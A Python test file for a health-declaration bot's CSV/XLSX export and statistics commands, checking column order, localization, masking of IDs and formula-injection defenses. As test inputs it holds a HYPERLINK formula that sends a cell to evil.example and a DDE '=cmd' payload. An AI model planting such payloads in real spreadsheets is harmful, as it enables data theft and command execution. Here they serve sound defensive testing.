"""`healthbot export` and `healthbot stats`: readable, typed, safe to open, one column per
fact in questionnaire order, operator mistakes as one line."""

from __future__ import annotations

import argparse
import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bot import cli_export
from dialogs import codes
from dialogs.questionnaire import QUESTIONS, STORED
from locales import t
from storage import export
from storage.models import Declaration, Resident
from storage.sheets import safe_text
from tests.staffdata import KP1, KP2, OTHER_WARD, WARD, Town
from tests.test_staff import audit, one_line_error

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Bấm")'


@pytest.fixture
async def town(sessions, clean_db):
    return Town(sessions)


def parse(*argv):
    parser = argparse.ArgumentParser(prog="healthbot")
    cli_export.register(parser.add_subparsers(dest="command", required=True))
    return parser.parse_args(list(argv))


async def cli(rt, *argv) -> int:
    args = parse(*argv)
    return await args.func(args, rt)


async def edit(sessions, rid: int, **values) -> Resident:
    async with sessions.begin() as s:
        r = await s.get(Resident, rid)
        for k, v in values.items():
            setattr(r, k, v)
    async with sessions() as s:
        return await s.get(Resident, rid)


def read(path, fmt: str) -> list[list]:
    if fmt == "csv":
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the diacritics
        return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
    return [list(r) for r in load_workbook(path).active.iter_rows(values_only=True)]


# ---------------------------------------------------------------- the columns


def test_every_export_column_comes_from_the_questionnaire():
    cols = export.columns()
    keys = [c.key for c in cols]
    assert len(keys) == len(set(keys))  # one column per fact
    inner = [c for c in cols if c.question is not None]
    expected = []
    for q in QUESTIONS:
        if q.exported:
            expected += [s.name for s in q.stored] or [q.key]
    assert [c.key for c in inner] == expected  # questionnaire order
    # the typed database columns are exactly the questionnaire's
    typed = {c.name for c in Declaration.__table__.columns} - {
        "id", "resident_id", "version", "submission_key", "submitted_by", "relation", "questionnaire_version",
        "started_at", "submitted_at", "answers"}
    assert typed == {s.name for s in STORED}
    # everything around them is what only the registry knows, or who declared when
    assert keys[: len(export.REGISTRY_COLUMNS)] == list(export.REGISTRY_COLUMNS)
    assert keys[-len(export.DECLARATION_COLUMNS):] == list(export.DECLARATION_COLUMNS)
    for loc in ("vi", "en"):
        for c in cols:
            assert t(loc, c.header) != c.header, (loc, c.header)  # a readable label in each language


def test_formula_like_text_is_made_safe():
    for text in ("=1+1", "+84 912", "-5", "@SUM(A1)", "\tx", "\rx", "  =1", "＝1"):
        assert safe_text(text) == "'" + text
    for text in ("Nguyễn Thị Hoa", "12 Lê Văn Việt", "a=b", ""):
        assert safe_text(text) == text


# ---------------------------------------------------------------- export


async def declared_town(town, sessions):
    _, (a, b) = await town.family(2)
    await edit(sessions, a, phone="+84912345678", group_name="Tổ 3", citizen_id="079050000001",
               birth_date=date(1950, 3, 5), birth_year=1950, full_name="=cmd|' /C calc'!A0")
    await edit(sessions, b, birth_year=1938)
    await town.resident(ward=OTHER_WARD)
    await town.declare(a, days_ago=5, weight_kg=Decimal("60"), answers={"weight": 60, "smoking": "no"})
    answers = {"identity": "ok", "occupation": EVIL, "ethnicity": "kinh", "blood_group": "A", "height": 160,
               "weight": 61.5, "blood_pressure": "unknown", "smoking": "quit", "conditions": [],
               "allergies": "-penicillin", "covid_doses": 3}
    await town.declare(a, days_ago=1, height_cm=Decimal("160"), weight_kg=Decimal("61.5"), bmi=Decimal("24.0"),
                       covid_doses=3, answers=answers)
    return a, b


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_is_readable_typed_and_safe(runtime, town, sessions, capsys, tmp_path, fmt):
    rt = runtime
    a, b = await declared_town(town, sessions)
    out = tmp_path / f"phuong27.{fmt}"
    assert await cli(rt, "export", "--ward", WARD, "--format", fmt, "--out", str(out)) == 0
    assert "2" in capsys.readouterr().out
    rows = read(out, fmt)
    head = rows[0]
    assert len(head) == len(set(head))  # no column twice
    col = {name: i for i, name in enumerate(head)}
    assert len(rows) == 3  # one row per resident of the ward, declared or not
    ra, rb = [await edit(sessions, x) for x in (a, b)]
    by_code = {r[0]: r for r in rows[1:]}
    assert ra.code not in by_code and codes.mask(ra.code) in by_code  # masked without --reveal
    an, binh = by_code[codes.mask(ra.code)], by_code[codes.mask(rb.code)]
    cell = lambda row, msg: row[col[t("vi", msg)]]  # noqa: E731

    # readable Vietnamese values, not codes
    assert cell(an, "label.smoking") == "Đã bỏ"
    assert cell(an, "label.ethnicity") == t("vi", "opt.kinh")
    assert cell(an, "label.conditions") == "Không có"  # "none" written, not blank
    assert cell(an, "export.col.relation") == "Chính người đó"
    assert cell(an, "export.col.systolic") == t("vi", "opt.unknown")  # no number: said in words
    assert cell(an, "export.col.status") == "Đang cư trú"
    assert cell(an, "export.col.group_name") == "Tổ 3" and cell(an, "export.col.quarter") == KP1
    assert cell(an, "label.phone") == "0912 345 678"
    assert cell(an, "export.col.citizen_id") == "••••••••0001"
    # formula-like text is text with an apostrophe, never a formula
    assert cell(an, "label.occupation") == "'" + EVIL
    assert cell(an, "label.full_name") == "'=cmd|' /C calc'!A0"
    assert cell(an, "label.allergies") == "'-penicillin"
    # a resident without a declaration: registry facts, empty answers
    assert cell(binh, "export.col.submitted_at") in ("", None) and cell(binh, "export.col.weight_kg") in ("", None)
    if fmt == "csv":
        assert cell(an, "export.col.weight_kg") == "61,5"
        assert cell(an, "label.birth_date") == "05/03/1950"
        assert cell(binh, "label.birth_date") == "1938"
    else:
        assert cell(an, "export.col.weight_kg") == 61.5 and cell(an, "export.col.covid_doses") == 3
        assert cell(an, "label.birth_date") == datetime(1950, 3, 5)
        assert isinstance(cell(an, "export.col.submitted_at"), datetime)
        assert cell(binh, "label.birth_date") == 1938
        sheet = load_workbook(out).active
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", c.value  # nothing runs
    [entry] = await audit(sessions, "staff_export")
    assert entry.actor_kind == "cli" and sorted(entry.details["resident_ids"]) == sorted([a, b])
    assert entry.details["revealed"] is False


async def test_export_reveal_writes_codes_and_is_audited(runtime, town, sessions, capsys, tmp_path):
    rt = runtime
    rid = await town.resident()
    r = await edit(sessions, rid, citizen_id="079050000001")
    out = tmp_path / "x.csv"
    assert await cli(rt, "export", "--ward", WARD, "--out", str(out), "--reveal") == 0
    rows = read(out, "csv")
    assert rows[1][0] == r.code and "079050000001" in rows[1]
    [entry] = await audit(sessions, "staff_export")
    assert entry.details["revealed"] is True


async def test_export_in_english(runtime, town, sessions, tmp_path):
    rt = runtime
    rt.settings = rt.settings.model_copy(update={"default_locale": "en"})
    await declared_town(town, sessions)
    out = tmp_path / "x.xlsx"
    assert await cli(rt, "export", "--ward", WARD, "--out", str(out)) == 0
    head, *rows = read(out, "xlsx")
    assert "Weight (kg)" in head and "Smoking" in head
    assert {r[head.index("Smoking")] for r in rows} >= {"Quit"}


async def test_export_operator_mistakes_are_one_line(runtime, town, capsys, tmp_path):
    rt = runtime
    await town.resident()
    folder = tmp_path / "reports"
    folder.mkdir()
    cases = [(("--ward", WARD, "--format", "pdf", "--out", str(tmp_path / "x.pdf")), "csv"),
             (("--ward", "Nowhere", "--out", str(tmp_path / "x.csv")), "Nowhere"),
             (("--ward", WARD, "--out", str(tmp_path / "missing" / "x.csv")), "missing"),
             (("--ward", WARD, "--out", str(folder)), "reports")]
    for argv, named in cases:
        assert await cli(rt, "export", *argv) == 2, argv
        assert named in one_line_error(capsys)


# ---------------------------------------------------------------- stats


async def stats_town(town, sessions):
    _, (a, b) = await town.family(2)  # KP1, both linked
    await edit(sessions, a, group_name="Tổ 1")
    await edit(sessions, b, group_name="Tổ 2")
    await town.declare(a)
    c = await town.resident(quarter=KP2)
    gone = await town.resident(quarter=KP2)
    await edit(sessions, gone, status="moved")  # leaves the statistics
    await town.resident(ward=OTHER_WARD)
    return c


async def test_stats_csv_breaks_down_by_khu_pho_and_to(runtime, town, sessions, capsys):
    rt = runtime
    await stats_town(town, sessions)
    capsys.readouterr()
    assert await cli(rt, "stats", "--ward", WARD, "--csv") == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeff")  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
    assert rows[0][:4] == ["Phường", "Khu phố", "Tổ", "Dân số"]
    table = {tuple(r[:3]): r[3:] for r in rows[1:]}
    assert table[("Tổng cộng", "", "")] == ["3", "2", "1", "1", "33,3"]
    assert table[(WARD, "Cả Phường 27", "")][0] == "3"
    assert table[(WARD, KP1, "Cả Khu phố 1")] == ["2", "2", "1", "1", "50"]
    assert table[(WARD, KP1, "Tổ 1")] == ["1", "1", "1", "1", "100"]
    assert table[(WARD, KP2, "(chưa rõ)")][0] == "1"  # the moved resident is not counted
    assert len(rows) == 1 + 7  # total, ward, KP1 and its two tổ, KP2 and its one
    assert [a.actor_kind for a in await audit(sessions, "staff_stats")] == ["cli"]


async def test_stats_xlsx_has_numbers_and_notices_are_not_rows(runtime, town, sessions, capsys, tmp_path,
                                                              monkeypatch):
    from storage import stats  # noqa: PLC0415

    async def overdue(session, ward, now) -> int:
        return 4

    monkeypatch.setattr(stats, "INDICATORS", [("staff.all_wards", overdue)])
    rt = runtime
    await stats_town(town, sessions)
    out = tmp_path / "stats.xlsx"
    assert await cli(rt, "stats", "--out", str(out)) == 0
    rows = read(out, "xlsx")
    assert rows[1] == ["Tổng cộng", None, None, 4, 2, 1, 1, 25.0]
    assert all(t("vi", "staff.all_wards") not in str(r[0]) for r in rows)
    assert t("vi", "staff.all_wards") in capsys.readouterr().err
    assert await cli(rt, "stats", "--out", str(tmp_path)) == 2
    one_line_error(capsys)
    assert await cli(rt, "stats", "--out", str(tmp_path / "x.pdf")) == 2
    one_line_error(capsys)


async def test_stats_table_at_the_terminal(runtime, town, sessions, capsys):
    rt = runtime
    await stats_town(town, sessions)
    capsys.readouterr()
    assert await cli(rt, "stats") == 0
    out = capsys.readouterr().out
    assert WARD in out and OTHER_WARD in out and "33,3%" in out
    assert await cli(rt, "stats", "--ward", "Nowhere") == 2
    assert "Nowhere" in one_line_error(capsys)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_registry_text_that_looks_like_a_formula_is_text(runtime, town, sessions, tmp_path, fmt):
    rid = await town.resident(name="@SUM(1+1)", quarter="+KP 1")
    await edit(sessions, rid, group_name="-Tổ 2", address="=1+2")
    out = tmp_path / f"x.{fmt}"
    assert await cli(runtime, "export", "--ward", WARD, "--out", str(out)) == 0
    head, row = read(out, fmt)
    cells = dict(zip(head, row, strict=True))
    assert cells[t("vi", "label.full_name")] == "'@SUM(1+1)"
    assert cells[t("vi", "export.col.quarter")] == "'+KP 1"
    assert cells[t("vi", "export.col.group_name")] == "'-Tổ 2"
    assert cells[t("vi", "label.address")] == "'=1+2"
    if fmt == "xlsx":
        assert all(c.data_type != "f" for r in load_workbook(out).active.iter_rows() for c in r)
